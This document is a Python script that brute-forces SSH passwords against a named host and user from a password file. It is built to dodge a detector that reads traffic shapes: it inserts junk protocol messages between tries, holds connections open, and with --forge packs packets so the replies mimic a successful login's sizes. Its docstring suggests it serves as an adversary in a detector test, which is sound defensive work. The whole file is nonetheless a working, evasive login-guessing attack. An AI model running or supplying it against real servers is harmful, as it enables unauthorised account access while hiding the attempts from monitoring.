#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""ssh_tricks.py - an SSH password guesser that plays tricks on a detector
that reads connection shapes: junk messages (an unassigned message type,
answered by SSH_MSG_UNIMPLEMENTED) between its passwords, connections held
open, one password per connection. Prints one line per password the server
refused ("refused N"), so that the test counts the tries that reached sshd.

With --forge, after each refused password it plays a login's shape with
junk alone: one junk message (its UNIMPLEMENTED is USERAUTH_SUCCESS's size
under 16-byte-block ciphers), four at once (their answers, in one burst,
the size of OpenSSH's host-key announcement), then one more.

usage: ssh_tricks.py HOST USER PASSWORD-FILE [--per-conn N] [--junk N]
       [--forge] [--hold S] [--mac MAC] [--cipher C] [--bind ADDR] [--port P]
       [--key FILE]
"""
import argparse
import socket
import sys
import time

import paramiko

JUNK_TYPE = 130  # unassigned (RFC 4250 reserves 128-191 for client protocols)


def junk(t, n):
    for _ in range(n):
        m = paramiko.Message()
        m.add_byte(bytes([JUNK_TYPE]))
        m.add_string("x" * 8)
        t._send_message(m)
        time.sleep(0.05)  # its UNIMPLEMENTED comes back on its own


def forge(t):
    """A login's shape from junk's answers: SUCCESS, the host keys, a reply."""
    junk(t, 1)
    m = paramiko.Message()
    m.add_byte(bytes([JUNK_TYPE]))
    m.add_string("x" * 8)
    # four in one segment: sshd reads them in one go and answers in one
    # segment (paramiko would write each apart)
    pk = t.packetizer
    sock = pk._Packetizer__socket
    held = []

    class Hold:
        def send(self, b):
            held.append(bytes(b))
            return len(b)

    with t.lock:
        pk._Packetizer__socket = Hold()
        try:
            for _ in range(4):
                pk.send_message(m)
        finally:
            pk._Packetizer__socket = sock
        sock.sendall(b"".join(held))
    time.sleep(0.1)
    junk(t, 1)


def connect(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if a.bind:
        s.bind((a.bind, 0))
    s.settimeout(10)
    s.connect((a.host, a.port))
    t = paramiko.Transport(s)
    opts = t.get_security_options()
    if a.cipher:
        opts.ciphers = (a.cipher,)
    if a.mac:
        opts.digests = (a.mac,)
    t.start_client(timeout=10)
    return t


def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("user")
    p.add_argument("passwords")
    p.add_argument("--per-conn", type=int, default=6)
    p.add_argument("--junk", type=int, default=0)
    p.add_argument("--forge", action="store_true")
    p.add_argument("--hold", type=float, default=0)
    p.add_argument("--cipher")
    p.add_argument("--mac")
    p.add_argument("--bind")
    p.add_argument("--port", type=int, default=22)
    p.add_argument("--key")
    a = p.parse_args()
    pws = [l.strip() for l in open(a.passwords) if l.strip()]
    refused = 0
    while pws:
        try:
            t = connect(a)
        except (OSError, paramiko.SSHException, EOFError) as e:
            print("connection failed: %s" % e, flush=True)
            return 0 if refused else 1
        try:
            for _ in range(a.per_conn):
                if not pws:
                    break
                pw = pws.pop(0)
                try:
                    t.auth_password(a.user, pw)
                    print("accepted %s" % pw, flush=True)
                    return 0
                except paramiko.AuthenticationException:
                    refused += 1
                    print("refused %d" % refused, flush=True)
                junk(t, a.junk)
                if a.forge:
                    forge(t)
            if a.key:
                t.auth_publickey(a.user, paramiko.Ed25519Key.from_private_key_file(a.key))
                print("logged in with the key", flush=True)
            if a.hold:
                time.sleep(a.hold)
        except (OSError, paramiko.SSHException, EOFError) as e:
            print("connection lost: %s" % e, flush=True)
        finally:
            t.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
